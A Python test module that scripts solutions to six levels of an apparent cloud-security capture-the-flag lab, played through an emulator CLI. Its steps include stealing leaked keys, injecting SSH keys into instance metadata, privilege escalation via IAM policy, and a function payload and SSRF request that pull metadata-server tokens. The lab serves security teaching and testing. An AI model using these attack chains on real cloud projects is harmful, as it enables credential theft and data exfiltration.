"""Scripted solvers for the six shipped levels.

Each solver drives the public CLI only -- no raw HTTP, no emulator
internals -- and follows its level's published walkthrough step by step.
Every solver returns the flag string it retrieved; the caller compares it
against the expected per-project flag.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

FLAG_RE = re.compile(r"CTF\{[0-9a-f]{16}\}")
TOKEN_RE = re.compile(r"emu-at-[0-9a-f]+")


class SolverFailed(Exception):
    pass


def _extract_flag(text: str) -> str:
    match = FLAG_RE.search(text)
    if not match:
        raise SolverFailed(f"no flag in output: {text[:200]!r}")
    return match.group(0)


def _key_file(level: str) -> str:
    import os

    path = Path(os.environ["THUNDER_HOME"]) / "keys" / (level.replace("/", "-") + ".json")
    if not path.is_file():
        raise SolverFailed(f"handout key file missing: {path}")
    return str(path)


def create(cli, level: str) -> dict:
    return cli.json("create", level)


def destroy(cli) -> None:
    cli.run("destroy")


def solve_a1openbucket(cli, workdir: Path) -> str:
    # list all storage buckets anonymously
    buckets = cli.json("buckets", "list")["buckets"]
    docs = next(b for b in buckets if b.startswith("thunder-docs-"))
    # copy the secret file stored within the bucket left open
    objects = cli.json("objects", "list", docs)["objects"]
    assert "secret-codes.txt" in objects
    out = cli.run("objects", "cat", docs, "secret-codes.txt")
    return _extract_flag(out)


def solve_a2finance(cli, workdir: Path) -> str:
    # activate the leaked service-account credential
    cli.run("auth", "activate-key", _key_file("thunder/a2finance"))
    # list permissions associated with the credential
    granted = cli.json("iam", "test-permissions")["permissions"]
    assert "storage.objects.get" in granted
    # download the contents of the accessible bucket
    bucket = next(
        b for b in cli.json("buckets", "list")["buckets"] if b.startswith("finance-docs-")
    )
    runbook = cli.run("objects", "cat", bucket, "runbook.md")
    assert "finance-infra" in runbook
    # navigate the repo; the key was removed from HEAD but not from history
    commits = cli.json("repo", "log", "finance-infra")["commits"]
    assert "id_key" not in commits[0]["paths"]
    first = commits[-1]
    assert "id_key" in first["paths"]
    # check out the version containing the initial commit of the key
    key_text = cli.run("repo", "show", "finance-infra", first["commit_id"], "id_key")
    key_path = workdir / "id_key"
    key_path.write_text(key_text, encoding="utf-8")
    # find the instance carrying an ssh key in its metadata
    instances = cli.json("instances", "list")["instances"]
    vm = next(i for i in instances if "ssh-keys" in i["metadata_keys"])
    # ssh in and use the instance's role to reach the logging service
    token = cli.run("ssh", vm["name"], "--key", str(key_path), "--exec", "token").strip()
    cli.run("auth", "activate-token", token)
    # find the card numbers in the unsanitized log entries
    entries = cli.json("logs", "read", "--logger", vm["name"])["entries"]
    dump = next(e for e in entries if "card=" in e["message"] and "ref=" in e["message"])
    return _extract_flag(dump["message"])


def solve_a3password(cli, workdir: Path) -> str:
    cli.run("auth", "activate-key", _key_file("thunder/a3password"))
    # list the serverless functions
    fns = cli.json("functions", "list")["functions"]
    portal = next(f for f in fns if f["name"] == "account-portal")
    assert portal["require_auth"]
    # hitting the endpoint shows it requires authentication
    out = cli.run("functions", "call", "account-portal", expect=1)
    assert "auth_required" in out
    # obtain an identity token and access the API again
    out = cli.run("functions", "call", "account-portal", "--identity")
    assert "password" in out  # the interface wants a password field
    # use the over-provisioned credential to download the source
    source = cli.run("functions", "source", "account-portal")
    assert 'env("PW")' in source
    # list the function's metadata to discover the secret
    env = cli.json("functions", "get", "account-portal")["env"]
    password = env["PW"]
    # access the endpoint with the password
    out = cli.run(
        "functions", "call", "account-portal", "--identity", "--param", f"password={password}"
    )
    return _extract_flag(out)


def solve_a4error(cli, workdir: Path) -> str:
    cli.run("auth", "activate-key", _key_file("thunder/a4error"))
    # obtain an identity token and access the function via its URL
    fns = cli.json("functions", "list")["functions"]
    assert any(f["name"] == "billing-export" for f in fns)
    out = cli.run("functions", "call", "billing-export", "--identity")
    assert "format=csv" in out
    # inject unexpected input to trigger an error
    out = cli.run(
        "functions", "call", "billing-export", "--identity", "--param", "format=xml", expect=1
    )
    assert "handler_error" in out
    # read the function's log entries with the analyst credential
    entries = cli.json("logs", "read", "--logger", "billing-export")["entries"]
    crash = next(e for e in entries if e["severity"] == "ERROR" and "token=" in e["message"])
    token = TOKEN_RE.search(crash["message"]).group(0)
    # adopt the function's credential and list its permissions
    cli.run("auth", "activate-token", token)
    granted = cli.json("iam", "test-permissions")["permissions"]
    assert "compute.instances.setMetadata" in granted
    # list the project's VM instances
    instances = cli.json("instances", "list")["instances"]
    vault = next(i for i in instances if "export-secret.txt" in i["metadata_keys"])
    # add an ssh key to the instance metadata
    key_path = workdir / "intruder_key"
    cli.run("keygen", "-o", str(key_path))
    cli.run(
        "instances", "add-ssh-key", vault["name"], "--user", "intruder",
        "--key-file", str(key_path),
    )
    # log into the instance and read the secret file
    out = cli.run(
        "ssh", vault["name"], "--key", str(key_path), "--exec", "metadata",
        "--path", "/computeMetadata/v1/instance/attributes/export-secret.txt",
    )
    return _extract_flag(out)


A5_PAYLOAD = (
    '# maintenance-bot "update"\n'
    'respond(fetch("http://169.254.169.254/computeMetadata/v1/instance/'
    'service-accounts/default/token", "Metadata-Flavor: Google"))\n'
)


def solve_a5power(cli, workdir: Path) -> str:
    cli.run("auth", "activate-key", _key_file("thunder/a5power"))
    # list credential permissions: it can overwrite a serverless function
    granted = cli.json("iam", "test-permissions")["permissions"]
    assert "cloudfunctions.functions.update" in granted
    assert "storage.objects.get" not in granted
    # overwrite the function to return the credentials of its runtime
    payload = workdir / "payload.dsl"
    payload.write_text(A5_PAYLOAD, encoding="utf-8")
    cli.run("functions", "deploy", "maintenance-bot", "-f", str(payload))
    token = cli.run("functions", "call", "maintenance-bot").strip()
    if not TOKEN_RE.fullmatch(token):
        raise SolverFailed(f"expected a runtime token, got {token[:80]!r}")
    # list the runtime credential's permissions: it can view/edit IAM policy
    cli.run("auth", "activate-token", token)
    granted = cli.json("iam", "test-permissions")["permissions"]
    assert "resourcemanager.projects.setIamPolicy" in granted
    # view the IAM policy
    policy = cli.json("iam", "get-policy")
    bot = next(
        m
        for b in policy["bindings"]
        for m in b["members"]
        if m.startswith("a5-bot-sa@")
    )
    # escalate: grant the bot account storage read, then take the file
    cli.run("iam", "add-binding", "--role", "roles/storage.objectViewer", "--member", bot)
    bucket = next(
        b for b in cli.json("buckets", "list")["buckets"] if b.startswith("exec-payroll-")
    )
    objects = cli.json("objects", "list", bucket)["objects"]
    assert "ceo-payroll.txt" in objects
    out = cli.run("objects", "cat", bucket, "ceo-payroll.txt")
    return _extract_flag(out)


def solve_a6container(cli, workdir: Path) -> str:
    cli.run("auth", "activate-key", _key_file("thunder/a6container"))
    # discover the web server run via a container
    instances = cli.json("instances", "list")["instances"]
    web = next(i for i in instances if i.get("container_image"))
    # pull the image and examine its code for the hidden route
    image = cli.json("images", "list")["images"][0]
    extract_dir = workdir / "image"
    cli.run("images", "pull", image, "--extract-to", str(extract_dir))
    handler = (extract_dir / "app" / "server.dsl").read_text(encoding="utf-8")
    assert "/proxy" in handler
    # SSRF: make the proxy fetch the metadata token endpoint for us
    out = cli.run(
        "instances", "curl", web["name"], "/proxy",
        "--param",
        "url=http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
        "--header", "Metadata-Flavor: Google",
    )
    token_match = TOKEN_RE.search(out)
    if token_match is None:
        raise SolverFailed(f"proxy did not yield a credential: {out.strip()[:200]!r}")
    # list the stolen credential's permissions: storage access
    cli.run("auth", "activate-token", token_match.group(0))
    granted = cli.json("iam", "test-permissions")["permissions"]
    assert "storage.objects.get" in granted
    # access the secret file in the storage bucket
    bucket = next(
        b for b in cli.json("buckets", "list")["buckets"] if b.startswith("customer-exports-")
    )
    out = cli.run("objects", "cat", bucket, "card-export.csv")
    return _extract_flag(out)


SOLVERS = {
    "thunder/a1openbucket": solve_a1openbucket,
    "thunder/a2finance": solve_a2finance,
    "thunder/a3password": solve_a3password,
    "thunder/a4error": solve_a4error,
    "thunder/a5power": solve_a5power,
    "thunder/a6container": solve_a6container,
}


def run_level(cli, level: str, workdir: Path) -> str:
    """create -> solve -> destroy; returns the retrieved flag."""
    create(cli, level)
    try:
        return SOLVERS[level](cli, workdir)
    finally:
        destroy(cli)


def parse_flag_from(text: str) -> str:
    return _extract_flag(text)
